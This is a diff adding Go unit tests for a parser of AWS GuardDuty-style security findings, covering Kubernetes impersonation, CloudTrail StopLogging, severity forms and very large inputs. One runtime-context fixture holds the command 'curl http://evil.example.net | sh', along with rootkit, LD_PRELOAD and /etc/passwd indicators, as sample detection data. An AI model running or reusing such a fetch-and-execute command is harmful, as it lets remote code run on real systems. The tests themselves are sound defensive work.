@@ -135,6 +135,7 @@ func TestActionsAndActors(t *testing.T) {
 		"KUBERNETES_API_CALL": {`"kubernetesApiCallAction":{"verb":"create","resource":"pods","subresource":"exec","resourceName":"web-1","requestUri":"/api","statusCode":201,` + remote + `},"kubernetesPermissionCheckedDetails":{"verb":"get","namespace":"kube-system"}`, "verb=create subject=pods/exec web-1 uri=/api status_code=201 namespace=kube-system", from},
 		"RDS_LOGIN_ATTEMPT":   {`"rdsLoginAttemptAction":{"LoginAttributes":[{"user":"root","application":"psql","failedLoginAttempts":40},{"user":"admin","failedLoginAttempts":2}],` + remote + `}`, "user=root, admin application=psql failed=42", from},
 		"IPv6 only":           {`"networkConnectionAction":{"remoteIpDetails":{"ipAddressV4":"","ipAddressV6":"2001:db8::7"}}`, "", "2001:db8::7"},
+		"what it affected":    {`"awsApiCallAction":{"api":"StopLogging","affectedResources":{"AWS::CloudTrail::Trail":"arn:aws:cloudtrail:eu-west-1:1:trail/org","AWS::S3::Bucket":"logs"}}`, "api=StopLogging affected=org, logs", ""},
 		"of tomorrow":         {`"quantumAction":{` + remote + `}`, "", from},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -164,6 +165,10 @@ func TestUsersAndProcesses(t *testing.T) {
 	}
 	if diff := cmp.Diff(want, f.Actor); diff != "" {
 		t.Error(diff)
+	}
+	f = parse(t, `{"resource":{"kubernetesDetails":{"kubernetesUserDetails":{"username":"ann","sessionName":["s"],"impersonatedUser":{"username":"system:admin"}}}}}`)
+	if f.Actor.User != (finding.User{Name: "ann", Type: "Kubernetes", Session: "s", Impersonated: "system:admin"}) {
+		t.Errorf("got %+v", f.Actor.User)
 	}
 	f = parse(t, `{"resource":{"rdsDbUserDetails":{"user":"postgres"}}}`)
 	if f.Actor.User != (finding.User{Name: "postgres", Type: "Database"}) {
@@ -211,5 +216,75 @@ func TestPlace(t *testing.T) {
 	}
 	if id := parse(t, `{"arn":"arn:aws:guardduty:eu-west-1:111122223333:detector/d/finding/abc"}`).ID; id != "abc" {
 		t.Errorf("got id %q from the ARN", id)
+	}
+}
+
+func TestRuntimeContext(t *testing.T) {
+	f := parse(t, `{"service":{"runtimeDetails":{"process":{"name":"bash"},"context":{
+		"commandLineExample":"curl http://evil.example.net | sh","toolName":"","toolCategory":"Backdoor Tool","mountSource":"/etc","moduleName":"rootkit","memoryRegions":["x"],
+		"libraryPath":null,"ldPreloadValue":"/tmp/a.so","relatedFilePaths":["/etc/passwd"],"targetProcess":{"name":"sshd","executablePath":"/usr/sbin/sshd","pid":42.0},"modifyingProcess":{"name":"dd"}}}}}`)
+	want := finding.Attributes{
+		{Name: finding.AttrCommand, Value: "curl http://evil.example.net | sh"}, {Name: finding.AttrTool, Value: "Backdoor Tool"},
+		{Name: finding.AttrFile, Value: "/etc/passwd"}, {Name: finding.AttrLibrary, Value: "/tmp/a.so"}, {Name: finding.AttrModule, Value: "rootkit"},
+		{Name: finding.AttrMount, Value: "/etc"}, {Name: finding.AttrTargetProcess, Value: "/usr/sbin/sshd (pid 42)"},
+		{Name: finding.AttrModifyingProcess, Value: "dd"},
+	}
+	if diff := cmp.Diff(finding.Action{Attributes: want}, f.Action); diff != "" {
+		t.Error(diff)
+	}
+	if f := parse(t, `{"service":{"runtimeDetails":{"context":{"memoryRegions":["x"]}}}}`); !f.Action.Zero() {
+		t.Errorf("got %+v", f.Action)
+	}
+}
+
+func TestSeverityForms(t *testing.T) {
+	for text, want := range map[string]finding.Severity{
+		"8": 8, "8.0": 8, "5.3": 5.3, `"8.0"`: 8, `" 4 "`: 4, `"HIGH"`: 8, `"medium"`: 5, "10": 10, "1": 1,
+		"0": 0, "0.99": 0, "10.1": 0, "-1": 0, "1e999": 0, "true": 0, "null": 0, `""`: 0, `"NaN"`: 0, `"bad"`: 0, "{}": 0, "[7]": 7,
+	} {
+		if got := parse(t, `{"severity":`+text+`}`).Severity; got != want {
+			t.Errorf("%s: got %v, want %v", text, float64(got), float64(want))
+		}
+	}
+}
+
+func TestFlattened(t *testing.T) {
+	f := parse(t, `{"id":"f","resource_resourcetype":"Instance","resource_instancedetails_instanceid":"i-1",
+		"resource_instancedetails_networkinterfaces_1_vpcid":"vpc-2","resource_instancedetails_networkinterfaces_0_publicip":"198.51.100.7",
+		"service_count":"3","service_action_dnsrequestaction_domain":"evil.example.net"}`)
+	got := strings.Join([]string{
+		f.Resource.ID, f.Resource.Attributes.Get(finding.AttrPublicIP), f.Resource.Attributes.Get(finding.AttrVPC), fmt.Sprint(f.Count), f.Action.Attributes.Get(finding.AttrDomain),
+	}, " ")
+	if want := "i-1 198.51.100.7 vpc-2 3 evil.example.net"; got != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+	f = parse(t, `{"resource":{"instanceDetails":{"instanceId":"i-1","network-interfaces-1":{"vpcId":"vpc-2"},"network_interfaces_0":{"publicIp":"198.51.100.7"}}}}`)
+	if f.Resource.Attributes.Get(finding.AttrPublicIP) == "" || f.Resource.Attributes.Get(finding.AttrVPC) != "vpc-2" {
+		t.Errorf("a list of numbered members: got %v", f.Resource.Attributes)
+	}
+}
+
+// TestLargeFindings reads nearly a megabyte of each thing that is compared with what is there already, where
+// quadratic work would take minutes.
+func TestLargeFindings(t *testing.T) {
+	many := func(n int, format string) string {
+		var b strings.Builder
+		for i := range n {
+			fmt.Fprintf(&b, format, i)
+		}
+		return strings.TrimSuffix(b.String(), ",")
+	}
+	for name, detail := range map[string]string{
+		"objects":           `{"id":"f","resource":{"s3BucketDetails":[{"name":"b","s3ObjectDetails":[` + many(50_000, `{"key":"k%d"},`) + `]}]}}`,
+		"buckets":           `{"id":"f","resource":{"s3BucketDetails":[` + many(50_000, `{"name":"b%d"},`) + `]}}`,
+		"numbered members":  `{"id":"f","resource":{"instanceDetails":{"instanceId":"i-1",` + many(40_000, `"Network-Interfaces-%d":{},`) + `}}}`,
+		"flattened members": `{"id":"f",` + many(40_000, `"resource_details_a%d":1,`) + `}`,
+		"flattened levels":  `{"id":"f","resource_` + strings.Repeat("a_", 400_000) + `":1}`,
+		"tags":              `{"id":"f","resource":{"instanceDetails":{"instanceId":"i-1","tags":[` + many(40_000, `{"key":"%d","value":"v"},`) + `]}}}`,
+		"signals":           `{"id":"f","service":{"detection":{"sequence":{"sequenceIndicators":[{"key":"k","values":[` + many(90_000, `"v%d",`) + `]}]}}}}`,
+	} {
+		if f := parse(t, detail); f.ID != "f" {
+			t.Errorf("%s: got id %q", name, f.ID)
+		}
 	}
 }
